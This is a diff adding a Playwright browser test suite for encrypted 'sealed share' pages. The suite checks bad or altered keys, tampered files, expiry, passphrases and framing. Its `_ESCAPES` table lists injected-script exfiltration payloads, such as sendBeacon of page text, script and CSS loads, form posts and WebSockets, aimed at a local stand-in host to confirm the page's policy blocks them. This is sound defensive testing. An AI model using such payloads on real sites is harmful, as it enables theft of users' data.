@@ -1,0 +1,416 @@
+"""A sealed share in a browser: opens with its link, and with nothing else shows a plain reason."""
+
+import base64
+import json
+from collections import Counter
+from collections.abc import Iterator
+from dataclasses import replace
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Page
+
+from dossier.sharing.link import fragment_of
+from dossier.sharing.seal import Sealed
+from dossier.sharing.shell import shell_page
+from tests.browser.shares import (
+    ID,
+    KEY,
+    OTHER_ID,
+    OTHER_KEY,
+    SECRET,
+    SMALL,
+    TEMPLATES,
+    Desk,
+    desk_at,
+    outcome,
+    watch,
+)
+from tests.browser.probes import note_requests
+from tests.browser.sites import Site
+from tests.sites import write
+
+pytestmark = pytest.mark.browser
+
+CODED = fragment_of(KEY)
+ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"
+
+
+@pytest.fixture
+def desk(tmp_path: Path) -> Iterator[Desk]:
+    with desk_at(tmp_path) as desk:
+        yield desk
+
+
+def shown(page: Page) -> str:
+    return page.locator("body").inner_text()
+
+
+def test_the_right_key_shows_the_document(page: Page, desk: Desk) -> None:
+    desk.seal()
+    said = watch(page)
+    asked = note_requests(page)
+    assert outcome(page, desk.link()) == "open"
+    assert page.locator("h1").inner_text() == SECRET
+    assert page.locator("h1").evaluate("n => getComputedStyle(n).color") == "rgb(1, 2, 3)"
+    assert page.locator("img").evaluate("n => [n.complete, n.naturalWidth]") == [True, 1]
+    assert page.evaluate("[document.title, document.documentElement.lang]") == [
+        "Shared document",
+        "en",
+    ]
+    assert page.locator("text=away").get_attribute("rel") == "noopener noreferrer"
+    page.wait_for_load_state("networkidle")
+    assert [url.partition("#")[0] for url in asked if url != "about:blank"] == [desk.path()]
+    assert [entry.split()[:2] for entry in desk.log] == [["GET", f"/s/{ID}/"]]
+    assert CODED[2:] not in "".join(desk.log).lower()
+    assert (said, page.evaluate("refused")) == ([], [])
+    print("requests per opened share: 1 (browser), 1 (server log); key in log: 0; CSP reports: 0")
+
+
+def test_the_key_is_kept_nowhere(page: Page, desk: Desk) -> None:
+    desk.seal()
+    outcome(page, desk.link())
+    kept = "[localStorage.length, sessionStorage.length, document.cookie, history.length]"
+    assert page.evaluate(kept)[:3] == [0, 0, ""]
+    assert page.evaluate("location.hash") == f"#{CODED}"
+    assert page.evaluate("indexedDB.databases().then(found => found.length)") == 0
+
+
+BAD_KEYS = {
+    "none": ("", "nokey"),
+    "empty": ("#", "nokey"),
+    "cut by one": (f"#{CODED[:-1]}", "truncated"),
+    "cut in half": (f"#{CODED[:30]}", "truncated"),
+    "one sign changed": (f"#{CODED[:-1]}{'a' if CODED[-1] != 'a' else 'b'}", "typo"),
+    "another document's": (f"#{fragment_of(OTHER_KEY)}", "wrongkey"),
+    "garbage": ("#%F0%9F%92%A9!%", "nokey"),
+    "one sign glued on": (f"#{CODED}a", "truncated"),
+}
+
+
+def test_a_bad_key_shows_a_reason_and_nothing_else(page: Page, desk: Desk) -> None:
+    desk.seal()
+    page.on("pageerror", lambda error: pytest.fail(str(error)))
+    seen = {}
+    for kind, (fragment, _) in BAD_KEYS.items():
+        seen[kind] = outcome(page, desk.path() + fragment)
+        assert SECRET not in page.content()
+        assert len(page.locator("[role=alert] p").all_inner_texts()) == 2
+    assert seen == {kind: code for kind, (_, code) in BAD_KEYS.items()}
+    print(f"bad keys: {len(seen)}/8 kinds refused, codes {sorted(set(seen.values()))}")
+
+
+def test_two_hundred_altered_links_open_nothing(page: Page, desk: Desk) -> None:
+    desk.seal()
+    cuts = [CODED[:length] for length in range(58)]
+    swaps = [CODED[:n] + CODED[n + 1] + CODED[n] + CODED[n + 2 :] for n in range(2, 57)]
+    typos = [
+        CODED[:n] + ALPHABET[(ALPHABET.index(CODED[n]) + 1 + n % 31) % 32] + CODED[n + 1 :]
+        for n in range(2, 58)
+    ]
+    flipped = [fragment_of(bytes([KEY[n] ^ 1]) + KEY[1:])[:-1] for n in range(31)]
+    altered = [a for a in (*cuts, *swaps, *typos, *flipped) if a != CODED][:200]
+    codes: Counter[str] = Counter()
+    for number, fragment in enumerate(altered):
+        page.goto(f"{desk.path()}?{number}#{fragment}", wait_until="commit")
+        codes[outcome(page)] += 1
+    assert len(altered) >= 195
+    assert codes.keys() <= {"nokey", "truncated", "typo"}
+    assert outcome(page, desk.link()) == "open"
+    print(f"altered links in a browser: {sum(codes.values())} refused, {dict(codes)}")
+
+
+def test_no_truncation_and_no_substitution_gives_a_key(page: Page, desk: Desk) -> None:
+    desk.seal()
+    outcome(page, desk.link())
+    cuts = [CODED[:length] for length in range(58)]
+    subs = [
+        CODED[:n] + sign + CODED[n + 1 :]
+        for n in range(2, 58)
+        for sign in ALPHABET
+        if sign != CODED[n]
+    ]
+    found = page.evaluate(
+        "all => Promise.all(all.map(text => keyIn(text).then(() => 'key', e => e.code)))",
+        [*cuts, *subs, CODED],
+    )
+    assert Counter(found) == {"nokey": 2, "truncated": 56, "typo": 1736, "key": 1}
+    print("keys: 58 truncations and 1,736 substitutions refused by the loader, of 1,794")
+
+
+MANGLED = {
+    "dot": f"{CODED}.",
+    "brackets": f"{CODED})>",
+    "capitals": CODED.upper(),
+    "campaign": f"{CODED}&utm_source=mail",
+    "encoded": f"%23{CODED}",
+    "encoded twice": f"%2523{CODED}%252e",
+    "text fragment": f"{CODED}:~:text=offer",
+}
+
+
+def test_what_mail_does_to_a_link_is_survived(page: Page, desk: Desk) -> None:
+    desk.seal()
+    seen = {kind: outcome(page, f"{desk.path()}#{text}") for kind, text in MANGLED.items()}
+    assert seen == dict.fromkeys(MANGLED, "open")
+    print(f"mangled links: {len(seen)}/{len(MANGLED)} open")
+
+
+def altered(text: str, place: int, bit: int = 0) -> str:
+    content = bytearray(base64.b64decode(text))
+    content[place] ^= 1 << bit
+    return base64.b64encode(content).decode()
+
+
+def with_header(sealed: Sealed, **fields: object) -> Sealed:
+    header = json.loads(base64.b64decode(sealed.header)) | fields
+    text = json.dumps(header, sort_keys=True, separators=(",", ":")).encode()
+    return replace(sealed, header=base64.b64encode(text).decode())
+
+
+def test_an_altered_file_shows_nothing(page: Page, desk: Desk) -> None:
+    sealed = desk.seal(expires=date(2020, 1, 1))
+    other = desk.seal(share_id=OTHER_ID, key=OTHER_KEY)
+    twin = desk.seal({**SMALL, "title": "Another"})
+    files = {
+        "one bit": (replace(sealed, ciphertext=altered(sealed.ciphertext, 999)), "tampered"),
+        "last bit": (replace(sealed, ciphertext=altered(sealed.ciphertext, -1)), "tampered"),
+        "cut": (replace(sealed, ciphertext=sealed.ciphertext[:-400]), "tampered"),
+        "no text": (replace(sealed, ciphertext=""), "tampered"),
+        "not base64": (replace(sealed, ciphertext=f"*{sealed.ciphertext[1:]}"), "tampered"),
+        "later expiry": (with_header(sealed, exp="2999-01-01"), "tampered"),
+        "no expiry": (with_header(sealed, exp=None), "tampered"),
+        "other version": (with_header(sealed, v=2), "tampered"),
+        "other cipher": (with_header(sealed, alg="A128GCM"), "tampered"),
+        "header alone": (replace(sealed, header="e30="), "tampered"),
+        "no header": (replace(sealed, header=""), "tampered"),
+        "text of another": (replace(sealed, ciphertext=other.ciphertext), "tampered"),
+        "text of a twin": (replace(sealed, ciphertext=twin.ciphertext), "tampered"),
+        "page of another": (other, "tampered"),
+    }
+    seen = {}
+    for kind, (file, _) in files.items():
+        desk.put(file)
+        seen[kind] = outcome(page, desk.link())
+        assert SECRET not in page.content()
+    assert seen == {kind: code for kind, (_, code) in files.items()}
+    print(f"altered files: {len(seen)}/{len(files)} refused")
+
+
+_FLIPS = """async ([key, places]) => {
+    const bytes = Uint8Array.from(key), h = window.h, c = window.c;
+    const flip = (text, bit) => {
+        const all = fromBase64(text);
+        all[bit >> 3] ^= 1 << (bit & 7);
+        return all.toBase64();
+    };
+    const opens = async (h, c) => {
+        try {
+            const header = readHeader(h);
+            await documentIn(await unlock(bytes.slice(), header, h, c), header);
+            return true;
+        } catch { return false; }
+    };
+    const length = fromBase64(c).length * 8, head = fromBase64(h).length;
+    const refused = { header: 0, text: 0, tag: 0 };
+    for (let n = 0; n < head; n++) refused.header += !await opens(flip(h, n * 8), c);
+    for (let n = 0; n < length; n += 64) refused.text += !await opens(h, flip(c, n));
+    for (let n = length - 128; n < length; n++) refused.tag += !await opens(h, flip(c, n));
+    return [refused, head, Math.ceil(length / 64), await opens(h, c)];
+}"""
+
+
+def test_no_flipped_bit_opens(page: Page, desk: Desk) -> None:
+    sealed = desk.seal()
+    outcome(page, desk.link())
+    page.evaluate("([h, c]) => Object.assign(window, { h, c })", [sealed.header, sealed.ciphertext])
+    refused, head, text, control = page.evaluate(_FLIPS, [list(KEY), []])
+    assert control
+    assert refused == {"header": head, "text": text, "tag": 128}
+    print(f"bit flips refused: {head} header bytes, {text} ciphertext bits, 128 tag bits: 100 %")
+
+
+def test_a_share_expires_after_its_last_day(page: Page, desk: Desk) -> None:
+    today = datetime.now(UTC).date()
+    page.clock.install(time=datetime(today.year, today.month, today.day, 12, tzinfo=UTC))
+    seen = []
+    for days in (-1, 0, 1):
+        desk.seal(expires=today + timedelta(days=days))
+        seen.append(outcome(page, desk.link()))
+    assert seen == ["expired", "open", "open"]
+
+
+def test_an_expired_share_shows_the_reason_only(page: Page, desk: Desk) -> None:
+    desk.seal(expires=date(2020, 1, 1))
+    assert outcome(page, desk.link()) == "expired"
+    assert SECRET not in page.content()
+    assert "ask the sender for a new one" in shown(page).lower()
+
+
+PASSPHRASE = "Zürich café naïve"
+
+
+def test_a_passphrase_opens_however_it_is_typed(page: Page, desk: Desk) -> None:
+    desk.seal(passphrase=PASSPHRASE)
+    assert outcome(page, desk.link()) == "asks"
+    assert page.evaluate("document.activeElement.id") == "pass"
+    page.keyboard.type("zurich cafe")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("[data-code=passphrase]")
+    assert SECRET not in page.content()
+    # As macOS may type it: letters and accents apart.
+    apart = "Zu\u0308rich cafe\u0301 nai\u0308ve"
+    assert apart != PASSPHRASE
+    page.keyboard.type(apart)
+    page.keyboard.press("Enter")
+    page.wait_for_selector(f"text={SECRET}")
+    assert page.evaluate("document.activeElement.id") == "content"
+    assert page.evaluate("location.search") == ""
+    print("passphrase: wrong one refused, NFD opens what NFC sealed")
+
+
+def test_a_passphrase_may_not_cost_days_nor_next_to_nothing(page: Page, desk: Desk) -> None:
+    sealed = desk.seal(passphrase=PASSPHRASE)
+    salt = base64.b64encode(bytes(16)).decode()
+    for rounds in (599_999, 10_000_001, 1e99, "1000000", None, -1):
+        kdf = {"name": "PBKDF2-SHA256", "iter": rounds, "salt": salt}
+        desk.put(with_header(sealed, kdf=kdf))
+        assert outcome(page, desk.link()) == "tampered", rounds
+    # Without the passphrase's part of it, the key opens nothing.
+    desk.put(with_header(sealed, kdf=None))
+    assert outcome(page, desk.link()) == "wrongkey"
+
+
+def test_a_frame_shows_nothing(page: Page, desk: Desk) -> None:
+    desk.seal()
+    frame = f'<iframe src="/s/{ID}/#{CODED}"></iframe>'
+    write(desk.folder, {"frame.html": frame})
+    page.goto(f"{desk.address}/frame.html")
+    inner = page.frame_locator("iframe")
+    inner.locator("[data-code=framed]").wait_for()
+    assert SECRET not in inner.locator("html").inner_html()
+
+
+def test_a_saved_page_opens(page: Page, desk: Desk) -> None:
+    desk.seal()
+    saved = desk.folder / "saved by reader.html"
+    (desk.folder / f"s/{ID}/index.html").rename(saved)
+    assert outcome(page, f"{saved.as_uri()}#{CODED}") == "open"
+
+
+def test_without_a_secure_connection_it_says_so(
+    browser: Browser, chromium: str, desk: Desk
+) -> None:
+    desk.seal()
+    flags = ["--no-sandbox", "--host-resolver-rules=MAP share.test 127.0.0.1"]
+    with browser.browser_type.launch(executable_path=chromium, args=flags) as named:
+        page = named.new_page()
+        link = desk.link().replace("127.0.0.1", "share.test")
+        assert outcome(page, link) == "nocrypto"
+        assert "https://" in shown(page)
+        assert SECRET not in page.content()
+
+
+def test_without_scripts_it_says_so(scriptless: Page, desk: Desk) -> None:
+    desk.seal()
+    scriptless.goto(desk.link())
+    assert "JavaScript" in scriptless.locator("noscript").inner_text()
+
+
+def test_a_mended_link_opens_in_the_same_tab(page: Page, desk: Desk) -> None:
+    desk.seal()
+    assert outcome(page, f"{desk.path()}#{CODED[:20]}") == "truncated"
+    page.evaluate("hash => { location.hash = hash }", CODED)
+    page.wait_for_selector(f"text={SECRET}")
+
+
+@pytest.mark.parametrize("press", ["mouse", "keyboard"])
+def test_a_link_within_leads_there_and_keeps_the_key(press: str, page: Page, desk: Desk) -> None:
+    css = "#row { margin-top: 300vh } .is-target { color: rgb(4, 5, 6) }"
+    desk.seal({**SMALL, "css": css})
+    outcome(page, desk.link())
+    link = page.locator("text=down")
+    if press == "mouse":
+        link.click()
+    else:
+        link.focus()
+        page.keyboard.press("Enter")
+    row = page.locator("#row")
+    assert row.evaluate("n => getComputedStyle(n).color") == "rgb(4, 5, 6)"
+    assert row.evaluate("n => n.getBoundingClientRect().top < innerHeight && scrollY > 0")
+    assert page.evaluate("[location.hash, document.activeElement.id]") == [f"#{CODED}", "row"]
+    page.reload()
+    assert outcome(page) == "open"
+
+
+_ESCAPES = {
+    "fetch": "fetch(there).catch(() => {})",
+    "image": "new Image().src = there",
+    "beacon": "navigator.sendBeacon(there, document.body.innerText)",
+    "script": "s = document.createElement('script'); s.src = there; document.body.append(s)",
+    "inline script": "s = document.createElement('script'); s.text = 'ran = 1'; "
+    "document.body.append(s)",
+    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"ran = 2\">')",
+    "style": "document.body.style.cssText; s = document.createElement('style'); "
+    "s.textContent = `body { background: url(${there}) }`; document.head.append(s)",
+    "sheet": "t = new CSSStyleSheet(); t.replaceSync(`body { background: url(${there}) }`); "
+    "document.adoptedStyleSheets.push(t)",
+    "frame": "f = document.createElement('iframe'); f.src = there; document.body.append(f)",
+    "form": "f = document.createElement('form'); f.action = there; f.method = 'post'; "
+    "document.body.append(f); f.submit()",
+    "link": "l = document.createElement('link'); l.rel = 'stylesheet'; l.href = there; "
+    "document.head.append(l)",
+    "prefetch": "l = document.createElement('link'); l.rel = 'prefetch'; l.href = there; "
+    "document.head.append(l)",
+    "socket": "try { new WebSocket(there.replace('http', 'ws')) } catch {}",
+    "worker": "try { new Worker('data:text/javascript,0') } catch {}",
+    "ping": "a = document.createElement('a'); a.href = '#row'; a.ping = there; "
+    "document.body.append(a); a.click()",
+    "eval": "setTimeout(() => { eval('ran = 3') })",
+}
+"""What code that had got into the page might try."""
+
+
+def test_nothing_gets_out(page: Page, desk: Desk, tmp_path_factory: pytest.TempPathFactory) -> None:
+    desk.seal()
+    with desk_at(tmp_path_factory.mktemp("elsewhere")) as elsewhere:
+        watch(page)
+        outcome(page, desk.link())
+        for name, attempt in _ESCAPES.items():
+            # Only later is `eval` the page's: that of the debugger is not bound by the policy.
+            page.evaluate(f"() => {{ const there = '{elsewhere.address}/{name}'; let s, t, f, l, a;"
+                          f" {attempt} }}")
+        page.wait_for_timeout(300)
+        assert elsewhere.log == []
+        assert page.evaluate("window.ran") is None
+        blocked = page.evaluate("refused")
+    assert page.url == desk.link()
+    assert len(desk.log) == 1
+    print(f"exfiltration attempts: {len(_ESCAPES)} of {len(_ESCAPES)} blocked, {len(blocked)} told")
+
+
+def test_a_mangled_path_is_repaired(page: Page, desk: Desk, public_site: Site) -> None:
+    desk.seal()
+    dead = (public_site.folder / "404.html").read_bytes()
+    write(desk.folder, {"404.html": dead})
+    for mangled in (f"%23{CODED}", f"%2523{CODED}", f"%23{CODED.upper()}"):
+        page.goto("about:blank")
+        page.goto(desk.path() + mangled)
+        page.wait_for_url(f"{desk.path()}#*")
+        assert outcome(page) == "open", mangled
+        page.goto(desk.path().rstrip("/") + mangled)
+        page.wait_for_url(f"{desk.path()}#*")
+        assert outcome(page) == "open", mangled
+    page.goto(f"{desk.path()}%23{CODED[:-1]}")
+    assert page.locator("h1").inner_text() == "There is no page here"
+    print("404 repair: %23 and %2523, with and without the slash: 6/6 open")
+
+
+def test_the_same_document_gives_the_same_page(desk: Desk) -> None:
+    pages = [shell_page(desk.seal(), TEMPLATES) for _ in range(2)]
+    assert pages[0] == pages[1]
+    sizes = {
+        len(desk.seal({**SMALL, "html": "x" * size}).ciphertext) for size in (3_000, 12_000, 40_000)
+    }
+    assert len(sizes) == 1
